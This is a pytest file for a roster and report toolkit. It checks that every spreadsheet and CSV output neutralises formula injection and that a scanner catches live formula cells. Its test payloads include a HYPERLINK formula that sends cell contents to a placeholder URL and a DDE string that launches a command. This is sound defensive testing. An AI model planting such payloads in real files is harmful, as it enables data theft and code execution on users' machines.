"""One writer for spreadsheets and CSV: no formula from roster text survives
into a file a person opens (visit lists, preload, roster problems, scorecard,
quality workbook, report workbook, leadership export)."""
from __future__ import annotations

import csv
import io
import re
from contextlib import redirect_stdout
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from toolkit.tables import FORMULA_START, is_formula_like, neutralise, safe_cell, write_table, write_workbook

HYPER = '=HYPERLINK("http://x"&A1,"点我")'
PAYLOADS = (HYPER, "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－2", "＠SUM(A1)",
            "=cmd|' /C calc'!A0")
NEGATIVE = re.compile(r"-\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def live_cells(folder: Path) -> list[tuple[str, str]]:
    """Every cell of every .xlsx/.csv under ``folder`` that a spreadsheet would
    run: a formula cell, or text starting with a formula character that is not
    a plain negative number."""
    from openpyxl import load_workbook

    bad: list[tuple[str, str]] = []
    for p in sorted(folder.rglob("*")):
        if p.suffix == ".xlsx":
            wb = load_workbook(p)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        v = c.value
                        if c.data_type == "f" or (isinstance(v, str) and v.startswith(FORMULA_START)
                                                  and not NEGATIVE.fullmatch(v)):
                            bad.append((f"{p.name}:{ws.title}!{c.coordinate}", str(v)))
        elif p.suffix == ".csv":
            with p.open(encoding="utf-8-sig", newline="") as fh:
                rows = list(csv.reader(fh))
            for i, row in enumerate(rows):
                bad += [(f"{p.name}:{i + 1}", v) for v in row
                        if v.startswith(FORMULA_START) and not NEGATIVE.fullmatch(v)]
    return bad


def all_text(folder: Path) -> str:
    """All cell text under ``folder`` (to check the payloads are kept, prefixed)."""
    from openpyxl import load_workbook

    parts = []
    for p in sorted(folder.rglob("*")):
        if p.suffix == ".xlsx":
            for ws in load_workbook(p).worksheets:
                parts += [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
        elif p.suffix == ".csv":
            parts.append(p.read_text(encoding="utf-8-sig"))
    return "\n".join(parts)


# --- the rule -----------------------------------------------------------------------------------

def test_safe_cell_rule() -> None:
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p, p
    for keep in ("-2", "-2.5", "-1e-05", "张三", "1+1", " =x", "", "'=already"):
        assert safe_cell(keep) == keep
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert not is_formula_like(-3.0)


def test_neutralise_frame_numbers_stay_numbers() -> None:
    f = pd.DataFrame({"text": [HYPER, "-2", "ok", None], "num": [-1.0, 2.0, -3.5, np.nan],
                      "mixed": [-4, "=1", 5.5, "@x"], HYPER: ["a", "b", "c", "d"]},
                     dtype=object).astype({"num": float})
    out = neutralise(f)
    assert out["text"].tolist()[:3] == ["'" + HYPER, "-2", "ok"] and pd.isna(out["text"].iloc[3])
    assert out["num"].dtype == float and out["num"].iloc[0] == -1.0
    assert out["mixed"].tolist() == [-4, "'=1", 5.5, "'@x"]
    assert list(out.columns)[-1] == "'" + HYPER
    assert list(f.columns)[-1] == HYPER      # the input is not changed
    s = neutralise(pd.DataFrame({"s": pd.Series(["=1", "x"], dtype="string")}))
    assert s["s"].tolist() == ["'=1", "x"]


def test_write_table_and_workbook(tmp_path: Path) -> None:
    f = pd.DataFrame({"名称": list(PAYLOADS), "金额": np.arange(len(PAYLOADS)) - 3.0,
                      "控制": ["a\x01b"] * len(PAYLOADS)})
    write_table(f, tmp_path / "t.csv")
    write_table(f, tmp_path / "t.xlsx", sheet="表[1]")
    write_workbook(tmp_path / "w.xlsx", {"a": f, "b": f.rename(columns={"名称": "=x"})}, freeze=True,
                   autofilter=True)
    assert live_cells(tmp_path) == []
    back = pd.read_excel(tmp_path / "t.xlsx")
    assert back["金额"].tolist() == f["金额"].tolist()          # numbers stay numbers
    assert back["名称"].tolist() == ["'" + p for p in PAYLOADS]
    assert back["控制"].iloc[0] == "a\ufffdb"
    with pytest.raises(Exception, match="tables|\\.txt"):
        write_table(f, tmp_path / "t.txt")


def test_scanner_finds_live_cells(tmp_path: Path) -> None:
    """The scan itself can fail: a raw pandas write of the payloads is caught."""
    f = pd.DataFrame({"x": list(PAYLOADS)})
    f.to_csv(tmp_path / "raw.csv", index=False)
    # openpyxl, as before xlsxwriter was installed: pandas now prefers xlsxwriter, whose raw
    # write of these payloads held 21 live cells, not 22 (every toolkit writer names openpyxl)
    f.to_excel(tmp_path / "raw.xlsx", index=False, engine="openpyxl")
    assert len(live_cells(tmp_path)) == 2 * len(PAYLOADS)


# --- the pipeline pieces ------------------------------------------------------------------------

def payload_roster(n: int = 240) -> pd.DataFrame:
    """A roster frame whose names, addresses, counties and townships carry formulas."""
    rng = np.random.default_rng(7)
    counties = np.array([HYPER, "+1", "-2+3"], dtype=object)
    county = counties[rng.integers(0, 3, n)]
    town = np.array([f"@SUM(A{i % 4})" for i in range(n)], dtype=object)
    return pd.DataFrame({
        "archive_id": [f"=A{i}" if i % 5 == 0 else f"340{i:07d}" for i in range(n)],
        "county": county, "township": town, "status": "在档", "category": "=1+1",
        "name": [PAYLOADS[i % len(PAYLOADS)] + "张三" for i in range(n)],
        "phone": [f"+86139{i:08d}" for i in range(n)],
        "id_number": [f"=34010219800101{i % 1000:03d}X" for i in range(n)],
        "address": [PAYLOADS[(i + 3) % len(PAYLOADS)] for i in range(n)],
        "household_size": rng.integers(1, 6, n)}, index=pd.RangeIndex(2, n + 2, name="row"))


def test_visit_lists_and_preload(tmp_path: Path) -> None:
    from toolkit.sampling.select import Design, draw
    from toolkit.sampling.visit_lists import write_visit_lists

    roster = payload_roster()
    s = draw(roster, Design(seed="x", strata=("county",), n=60, reserves=2))
    for mask in (True, False):
        out = write_visit_lists(s, roster, tmp_path / str(mask), mask=mask)
        assert out.odk_csv.exists() and out.workbooks
    assert live_cells(tmp_path) == []
    text = all_text(tmp_path)
    assert "'" + HYPER in text and "'@SUM(A1)" in text and "'-2+3" in text


def test_roster_problems_file(tmp_path: Path) -> None:
    from toolkit.cli import main

    rows = [["档案编号", "姓名", "所属区县", "街道（乡镇）", "档案状态", "主要致困原因", "联系电话", "身份证号",
             "困难类别", "家庭人口", "家庭年收入（元）"]]
    rows += [[p, p, HYPER, "@SUM(A1)", "=1", "-2+3", "+86 199", "=1", "@x", "-2+3", p] for p in PAYLOADS]
    src = tmp_path / "in" / "roster.csv"
    src.parent.mkdir()
    with src.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    out = tmp_path / "out"
    for name in ("problems.csv", "problems.xlsx"):
        with redirect_stdout(io.StringIO()):
            main(["roster", "check", str(src), "--problems", str(out / name)])
        assert (out / name).exists()
    assert live_cells(out) == []
    assert "'" + HYPER in all_text(out)


def test_scorecard_quality_report_and_leadership(tmp_path: Path) -> None:
    from toolkit.config import Thresholds
    from toolkit.ingest.quality import write_quality_xlsx
    from toolkit.report.model import Report, Section, Table
    from toolkit.report.render import write_xlsx
    from toolkit.verify import scorecard as sc
    from toolkit.verify.indicators import ALL, INDICATORS
    from toolkit.widgets.leadership import export_view, view_tables

    est = pd.DataFrame([(i.name, c, 0.5, 0.1, 0.4, 0.6, 50, 10.0, "design") for i in INDICATORS
                        for c in (ALL, HYPER, "-2+3")],
                       columns=["indicator", "county", "estimate", "se", "ci_low", "ci_high", "n", "df", "method"])
    card = sc.build(est, Thresholds(), [HYPER, "-2+3"])
    sc.write(card, tmp_path / "verify", "zh")
    sc.write(card, tmp_path / "verify_en", "en")
    write_quality_xlsx({"duplicates": pd.DataFrame({"value": list(PAYLOADS), "KEY": list(PAYLOADS)}),
                        "devices": pd.DataFrame({"=dev": ["@x"]})}, tmp_path / "ingest" / "quality.xlsx")
    tb = Table("t", f"表 {HYPER}", pd.DataFrame({HYPER: list(PAYLOADS), "n": range(len(PAYLOADS))}), note="=note")
    rep = Report(title="=title", subtitle=(), lang="zh",
                 sections=(Section("s", "s", (), (tb, Table("u", "+u", pd.DataFrame({"-2+3": ["@a"]})))),))
    write_xlsx(rep, tmp_path / "report" / "report.xlsx")
    hh = pd.DataFrame({"county": [HYPER], "wrong_inclusion": [1]})
    subs = pd.DataFrame({"item": ["sat_overall"], "county": [HYPER], "answer": [5], "count": [1], "share": [1.0]})
    export_view(view_tables(card, hh, subs, {"r1": card, "r2": card}, HYPER, "zh"), tmp_path / "lead" / "v.xlsx")
    assert live_cells(tmp_path) == []
    text = all_text(tmp_path)
    assert "'" + HYPER in text and "'=title" in text and "'=note" in text
